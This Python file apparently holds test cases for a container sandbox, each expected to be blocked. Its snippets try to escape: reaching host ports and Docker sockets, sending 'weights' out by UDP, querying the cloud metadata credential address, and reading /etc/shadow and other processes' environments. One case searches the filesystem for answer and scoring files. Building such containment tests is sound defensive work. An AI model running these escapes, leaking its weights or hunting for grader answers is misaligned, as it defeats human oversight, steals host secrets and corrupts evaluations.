"""Ways out of the container: the network, the host's files, the answers."""

from __future__ import annotations

from functools import partial

from ..case import ATTEMPT, NO_HOLE, Case

escape = partial(Case, status=NO_HOLE, batch="escapes")

CASES = (
    escape(
        "escape-to-the-hosts-port",
        "connects to a port on which the host listens, by every address that may lead to it",
        log="refused tcp",
        train=ATTEMPT
        + """
import socket
for host in ("172.17.0.1", "127.0.0.1", "10.0.0.1", "host.docker.internal", "0.0.0.0"):
    attempt("tcp", lambda: socket.create_connection((host, @PORT@), timeout=0.5))
""",
    ),
    escape(
        "escape-by-udp-and-dns",
        "sends where no answer is needed, and asks for a name",
        log="refused dns",
        train=ATTEMPT
        + """
import socket
udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
attempt("udp", lambda: udp.sendto(b"weights", ("172.17.0.1", @PORT@)))
attempt("udp", lambda: udp.sendto(b"weights", ("8.8.8.8", 53)))
attempt("broadcast", lambda: udp.sendto(b"weights", ("255.255.255.255", @PORT@)))
attempt("dns", lambda: socket.getaddrinfo("example.com", 80))
attempt("raw", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1))
attempt("packet", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 3))
""",
    ),
    escape(
        "escape-by-ipv6-and-metadata",
        "IPv6, and the address where clouds keep credentials",
        log="refused metadata",
        train=ATTEMPT
        + """
import socket
six = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
attempt("ipv6", lambda: six.connect(("2001:4860:4860::8888", 53)))
attempt("link-local", lambda: six.connect(("fe80::1%lo", @PORT@)))
attempt("metadata", lambda: socket.create_connection(("169.254.169.254", 80), timeout=0.5))
""",
    ),
    escape(
        "escape-by-docker",
        "asks the Docker daemon for a better container",
        log="refused docker",
        train=ATTEMPT
        + """
import socket
for path in ("/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock"):
    local = socket.socket(socket.AF_UNIX)
    attempt("docker", lambda: local.connect(path))
    local.close()
""",
    ),
    escape(
        "escape-to-the-environment",
        "looks for secrets of the host's environment, its own and of other processes",
        log="looked",
        train=ATTEMPT
        + """
import os
own = [name for name in os.environ if "SECRET" in name or os.environ[name] == "@HIDDEN@"]
if own: print("BROKE environment", own)
pids = [name for name in os.listdir("/proc") if name.isdigit()]
others = [pid for pid in pids if os.stat("/proc/" + pid).st_uid != os.getuid()]
for pid in others: attempt("environ", lambda: open(f"/proc/{pid}/environ", "rb").read())
print("looked")
""",
    ),
    escape(
        "escape-to-the-hosts-files",
        "reads what only the host has",
        log="refused shadow",
        train=ATTEMPT
        + """
for path in ("@SECRET@", "/proc/1/root@SECRET@", "/proc/1/cwd", "/proc/kcore", "/dev/mem",
             "/proc/kmsg", "/dev/sda", "/dev/vda", "/proc/1/environ", "/sys/firmware/dmi/x"):
    attempt(path, lambda: open(path, "rb").read(1) or 1 / 0)
attempt("shadow", lambda: open("/etc/shadow").read())
""",
    ),
    escape(
        "escape-to-the-answers",
        "searches every file that it can read, in train and predict, for the answers",
        log="searched [0-9]+",
        train="SEARCH = 1",
        predict="""
import os
searched = 0
for folder, folders, files in os.walk("/"):
    folders[:] = [f for f in folders if os.path.join(folder, f) not in ("/proc", "/sys", "/usr")]
    for name in files:
        searched += 1
        if not os.path.isfile(os.path.join(folder, name)): continue
        try: text = open(os.path.join(folder, name), "rb").read(4096)
        except OSError: continue
        if text.split() == [b"4.0", b"7.0"] or name in ("answers.txt", "score.py"):
            print("BROKE answers", folder, name)
for place in ("answers", "../answers", "/trial/answers", "/answers", "/tmp/answers", "evaluator"):
    for name in ("answers.txt", "score.py"):
        if os.path.exists(os.path.join(place, name)): print("BROKE guessed", place, name)
print("searched", searched)
""",
    ),
)
